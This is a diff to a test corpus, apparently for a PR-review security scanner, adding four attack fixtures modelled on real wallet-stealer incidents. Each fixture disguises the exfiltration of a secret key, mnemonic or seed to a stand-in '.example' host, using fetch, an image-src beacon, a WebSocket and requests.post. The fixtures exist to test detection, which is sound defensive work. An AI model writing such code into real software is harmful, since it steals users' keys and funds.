@@ -2119,6 +2119,130 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:secret-harvesting'] },
   },
   {
+    id: 'attack-keypair-secret-key-multiline-fetch',
+    description:
+      '@solana/web3.js 1.95.6/1.95.7 (December 2024) sent every key loaded through Keypair.fromSecretKey to a look-alike host. Here the request is written as a formatter lays it out, over five lines (`fetch(KEY_SYNC, {` … `body: JSON.stringify({ k: … secretKey … })`), to a URL kept in a constant built by concatenation below the class: no line holds the key, the call and the URL together.',
+    fixture: () =>
+      attackPr({
+        repo: 'keyring-js',
+        number: 9400,
+        title: 'perf: warm the key cache',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/keypair.ts',
+            base: keypairModule([], []),
+            head: keypairModule(
+              ['    void fetch(KEY_SYNC, {', "      method: 'POST',", "      headers: { 'Content-Type': 'application/json' },", "      body: JSON.stringify({ k: Buffer.from(secretKey).toString('base64') }),", '    }).catch(() => undefined);'],
+              ['', "const KEY_SYNC = 'https://api.' + 'solana-rpc-status.example' + '/v1/sync';"],
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
+  {
+    id: 'attack-wallet-vault-mnemonic-image-beacon',
+    description:
+      "The wallet-drainer npm packages and browser-wallet stealers of 2024-2025 sent a recovery phrase out with no request call a reviewer looks for: an image's src. Here a PR to a browser wallet's vault module, titled as a backup reminder, sets `new Image().src` to a constant's URL with the mnemonic in its query when the vault is unlocked.",
+    fixture: () =>
+      attackPr({
+        repo: 'lanternwallet',
+        number: 9401,
+        title: 'feat: remind users to back up their phrase',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/background/vault.ts',
+            base: lines("import * as bip39 from 'bip39';", '', 'export async function unlock(mnemonic: string): Promise<Buffer> {', "  if (!bip39.validateMnemonic(mnemonic)) throw new Error('invalid phrase');", '  return bip39.mnemonicToSeed(mnemonic);', '}'),
+            head: lines(
+              "import * as bip39 from 'bip39';",
+              '',
+              "const REMINDER = 'https://backup-reminder.lantern-cdn.example/r.gif';",
+              '',
+              'export async function unlock(mnemonic: string): Promise<Buffer> {',
+              "  if (!bip39.validateMnemonic(mnemonic)) throw new Error('invalid phrase');",
+              '  new Image().src =',
+              "    REMINDER + '?t=' + Date.now() + '&p=' + encodeURIComponent(mnemonic);",
+              '  return bip39.mnemonicToSeed(mnemonic);',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
+  {
+    id: 'attack-wallet-seed-sent-over-websocket',
+    description:
+      'xrpl.js 4.2.1 (April 2025) sent the seed of every wallet made with Wallet.fromSeed to a look-alike host. Here the same PR to a ledger wallet library sends it over a WebSocket it opens to a status host: `new WebSocket(STATUS_URL)`, then `ws.send(JSON.stringify({ seed }))` in its open handler.',
+    fixture: () =>
+      attackPr({
+        repo: 'ledger-wallet',
+        number: 9402,
+        title: 'wallet: report ledger status on first use',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/Wallet/index.ts',
+            base: lines("import { deriveKeypair } from 'ripple-keypairs';", '', 'export class Wallet {', '  static fromSeed(seed: string): Wallet {', '    return new Wallet(deriveKeypair(seed));', '  }', '}'),
+            head: lines(
+              "import { deriveKeypair } from 'ripple-keypairs';",
+              '',
+              "const STATUS_URL = 'wss://xrpl-ledger-status.example/ws';",
+              '',
+              'export class Wallet {',
+              '  static fromSeed(seed: string): Wallet {',
+              '    const ws = new WebSocket(STATUS_URL);',
+              '    ws.onopen = () => {',
+              "      ws.send(JSON.stringify({ type: 'hello', seed }));",
+              '      ws.close();',
+              '    };',
+              '    return new Wallet(deriveKeypair(seed));',
+              '  }',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
+  {
+    id: 'attack-python-account-private-key-posted-over-lines',
+    description:
+      "The PyPI wallet stealers of 2024-2025 (packages that wrapped eth_account and web3 helpers) posted each private key they were given to their own host. Here a PR to a Python signing helper adds a 'usage metric' whose requests.post call spans four lines, the URL a module constant and the key in its json= line.",
+    fixture: () =>
+      attackPr({
+        repo: 'ethsign-py',
+        number: 9403,
+        title: 'feat: anonymous usage metrics',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'ethsign/accounts.py',
+            base: lines('from eth_account import Account', '', '', 'def load(private_key: str):', '    return Account.from_key(private_key)'),
+            head: lines(
+              'import requests',
+              'from eth_account import Account',
+              '',
+              'METRICS_URL = "https://metrics.ethsign-telemetry.example/v1/use"',
+              '',
+              '',
+              'def load(private_key: str):',
+              '    account = Account.from_key(private_key)',
+              '    requests.post(',
+              '        METRICS_URL,',
+              '        json={"address": account.address, "k": private_key},',
+              '        timeout=3,',
+              '    )',
+              '    return account',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
+  {
     id: 'attack-action-posts-environment',
     description:
       'The trivy-action compromise (March 2026) ran a "sysmon" script in the action that gathered the CI environment and posted it to the attackers\' host. Here a PR to a scanning action adds a helper that opens a request and writes JSON.stringify(process.env) into it.',
